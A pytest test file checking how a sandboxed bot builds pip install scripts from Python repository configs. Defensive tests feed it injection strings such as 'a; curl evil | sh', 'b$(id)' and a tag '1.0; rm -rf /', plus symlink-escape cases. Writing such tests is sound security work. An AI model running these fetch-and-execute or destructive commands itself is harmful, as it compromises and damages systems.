"""How a Python repository is installed for its tests: tables of repository files, no Docker."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from bot.sandbox.python_setup import PythonSetup, pretend_version, python_setup
from bot.sandbox.toolchain import PYTEST, PYTEST_SRC, ToolchainOverride, detect_toolchain
from bot.sandbox.toolchain import read_marker_files as read_files

HATCH = """\
[build-system]
requires = ["hatchling", "hatch-vcs"]
build-backend = "hatchling.build"

[project]
name = "demo"
dynamic = ["version"]
dependencies = ["attrs>=23"]

[project.optional-dependencies]
tests = ["pytest>=7", "hypothesis"]
docs = ["sphinx"]
dev = ["black"]
"""


def _setup(files: dict[str, str], version: str = "0.0.0") -> PythonSetup:
    found = python_setup(files, version)
    assert found is not None
    return found


def _commands(setup: PythonSetup) -> list[str]:
    return [line for line in setup.script.splitlines() if "pip install" in line]


def test_a_packaged_project_is_installed_editable_with_its_test_extra() -> None:
    setup = _setup({"pyproject.toml": HATCH}, version="1.4.2")

    (install,) = _commands(setup)
    assert "-e '.[tests]'" in install  # tests, not docs, not dev (a test extra exists)
    assert "SETUPTOOLS_SCM_PRETEND_VERSION=1.4.2" in install
    assert "PDM_BUILD_SCM_VERSION=1.4.2" in install
    # Where the backend cannot install editable, a build of the project instead.
    assert "|| { echo" in install and install.rstrip("; }").endswith("'.[tests]'")
    assert "editable (hatchling) with extras tests" in " ".join(setup.reasons)


def test_the_dev_extra_only_when_no_test_extra_exists() -> None:
    pyproject = HATCH.replace("tests = [", "benchmarks = [")

    (install,) = _commands(_setup({"pyproject.toml": pyproject}))

    assert "-e '.[dev]'" in install


BACKENDS = {
    "setuptools": ('[build-system]\nrequires = ["setuptools>=64", "setuptools-scm"]\n'
                   'build-backend = "setuptools.build_meta"\n', "setuptools"),
    "flit": ('[build-system]\nrequires = ["flit_core>=3.4"]\n'
             'build-backend = "flit_core.buildapi"\n', "flit_core"),
    "poetry-core": ('[build-system]\nrequires = ["poetry-core"]\n'
                    'build-backend = "poetry.core.masonry.api"\n', "poetry"),
    "pdm": ('[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n', "pdm"),
    "hatchling": ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
                  "hatchling"),
}


@pytest.mark.parametrize(("pyproject", "backend"), BACKENDS.values(), ids=BACKENDS.keys())
def test_every_build_backend_installs_the_project(pyproject: str, backend: str) -> None:
    setup = _setup({"pyproject.toml": pyproject})

    assert f"install the project ({backend})" in setup.script
    assert "-e ." in _commands(setup)[0]


def test_a_setup_py_project_with_literal_extras() -> None:
    setup_py = (
        "from setuptools import setup\n"
        "setup(name='x', extras_require={'testing': ['pytest', 'mock'], 'doc': ['sphinx']})\n"
    )

    (install,) = _commands(_setup({"setup.py": setup_py}))

    assert "-e '.[testing]'" in install


def test_setup_cfg_extras() -> None:
    files = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "setup.cfg": "[options.extras_require]\ntest =\n    pytest\ndocs =\n    sphinx\n",
    }

    assert "-e '.[test]'" in _commands(_setup(files))[0]


REQUIREMENTS = {
    "test file beside the base": (
        ["requirements.txt", "requirements-test.txt", "requirements-docs.txt"],
        ["requirements.txt", "requirements-test.txt"],
    ),
    "folder": (["requirements/base.txt", "requirements/tests.txt", "requirements/lint.txt"],
               ["requirements/base.txt", "requirements/tests.txt"]),
    "dev when nothing says test": (["requirements-dev.txt", "requirements-docs.txt"],
                                   ["requirements-dev.txt"]),
    "test-requirements.txt": (["test-requirements.txt"], ["test-requirements.txt"]),
}


@pytest.mark.parametrize(("names", "installed"), REQUIREMENTS.values(), ids=REQUIREMENTS.keys())
def test_requirements_files_that_serve_the_tests(names: list[str], installed: list[str]) -> None:
    setup = _setup(dict.fromkeys(names, "six\n"))

    assert [line.split(" -r ")[1] for line in _commands(setup)] == installed


def test_dependency_groups_resolve_included_groups_and_cut_cycles() -> None:
    pyproject = (
        '[dependency-groups]\n'
        'test = ["pytest", {include-group = "coverage"}]\n'
        'coverage = ["coverage[toml]", {include-group = "test"}]\n'
        'lint = ["ruff"]\n'
    )

    (install,) = _commands(_setup({"pyproject.toml": pyproject}))

    assert shlex.split(install.split(" -- ", 1)[1]) == ["pytest", "coverage[toml]"]


def test_tox_deps_and_extras() -> None:
    tox = (
        "[testenv]\n"
        "deps =\n    pytest>=7\n    -r{toxinidir}/requirements-test.txt\n    {env:EXTRA}\n"
        "extras = testing\n"
    )
    files = {"tox.ini": tox, "setup.py": "from setuptools import setup\nsetup()\n"}

    setup = _setup(files)

    assert "-e '.[testing]'" in setup.script
    assert shlex.split(_commands(setup)[1].split(" -- ", 1)[1]) == ["pytest>=7"]


def test_noxfile_installs_of_test_sessions_only() -> None:
    noxfile = (
        "import nox\n\n"
        "@nox.session\ndef tests(session):\n"
        "    session.install('.', 'pytest', 'freezegun')\n    session.run('pytest')\n\n"
        "@nox.session\ndef docs(session):\n    session.install('sphinx')\n"
    )

    (install,) = _commands(_setup({"noxfile.py": noxfile, "pytest.ini": "[pytest]\n"}))

    assert shlex.split(install.split(" -- ", 1)[1]) == ["pytest", "freezegun"]


def test_poetry_and_pdm_groups_become_requirements() -> None:
    pyproject = (
        '[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n'
        '[tool.poetry.group.test.dependencies]\npytest = "^7.2"\nfreezegun = "*"\n'
        'responses = {version = "~0.23"}\npython = "^3.8"\n'
        '[tool.pdm.dev-dependencies]\ntest = ["pytest-mock>=3"]\n'
    )

    setup = _setup({"pyproject.toml": pyproject})

    named = shlex.split(_commands(setup)[1].split(" -- ", 1)[1])
    assert named == ["pytest>=7.2", "freezegun", "responses>=0.23", "pytest-mock>=3"]


def test_requirements_never_become_options_or_shell() -> None:
    setup = _setup({"pyproject.toml": '[project]\ndependencies = ["--index-url=http://x", '
                                      '"a; curl evil | sh", "b$(id)"]\n'})

    (install,) = _commands(setup)
    words = shlex.split(install.split(" -- ", 1)[1])
    assert words == ["a; curl evil | sh", "b$(id)"]  # each one quoted argument, after "--"
    assert "--index-url" not in install


def test_a_project_without_build_system_or_dependencies_needs_no_setup() -> None:
    assert python_setup({"pyproject.toml": '[project]\nname = "x"\nversion = "0.1"\n'}) is None


def test_steps_are_numbered_so_a_failure_names_its_step() -> None:
    files = {"pyproject.toml": HATCH, "requirements-test.txt": "six\n"}

    echoes = [line for line in _setup(files).script.splitlines() if line.startswith("echo")]

    assert [e.split(":")[1].strip() for e in echoes] == ["step 1/2", "step 2/2"]


@pytest.mark.parametrize(
    ("tag", "version"),
    [("v1.2.3", "1.2.3"), ("2.0rc1", "2.0rc1"), ("release-7", "0.0.0"), (None, "0.0.0"),
     ("1.0; rm -rf /", "0.0.0")],
)
def test_pretend_version_from_a_tag(tag: str | None, version: str) -> None:
    assert pretend_version(tag) == version


def test_pretend_version_of_an_unpacked_release_without_tags() -> None:
    pkg_info = "Metadata-Version: 2.1\nName: pluggy\nVersion: 1.7.0\n"

    assert pretend_version(None, {"PKG-INFO": pkg_info}) == "1.7.0"
    assert pretend_version("v2.0", {"PKG-INFO": pkg_info}) == "2.0"


def test_tox_deps_for_some_environments_only_are_left_out() -> None:
    tox = "[testenv]\ndeps =\n    pytest\n    coverage: coverage\n    py{38,39}: mock\n"

    (install,) = _commands(_setup({"tox.ini": tox}))

    assert shlex.split(install.split(" -- ", 1)[1]) == ["pytest"]


def test_a_packaged_project_tests_with_src_first_on_the_path() -> None:
    images = {"python": "forgebot-runner-python:1"}
    packaged = detect_toolchain({"pyproject.toml": HATCH}, ToolchainOverride(), images)
    plain = detect_toolchain({"pytest.ini": "[pytest]\n"}, ToolchainOverride(), images)

    assert getattr(packaged, "test", None) == PYTEST_SRC
    assert getattr(plain, "test", None) == PYTEST


def test_requirements_files_are_read_by_pattern_never_through_a_link(tmp_path: Path) -> None:
    (tmp_path / "requirements-test.txt").write_text("pytest\n")
    (tmp_path / "requirements").mkdir()
    (tmp_path / "requirements" / "dev.txt").write_text("black\n")
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("not for the bot\n")
    (tmp_path / "requirements-link.txt").symlink_to(outside / "secret.txt")

    files = read_files(tmp_path)

    assert files["requirements-test.txt"] == "pytest\n"
    assert files["requirements/dev.txt"] == "black\n"
    assert "requirements-link.txt" not in files


def test_a_requirements_folder_that_is_a_link_is_not_read(tmp_path: Path) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-elsewhere"
    outside.mkdir()
    (outside / "test.txt").write_text("secret\n")
    (tmp_path / "requirements").symlink_to(outside)

    assert read_files(tmp_path) == {}
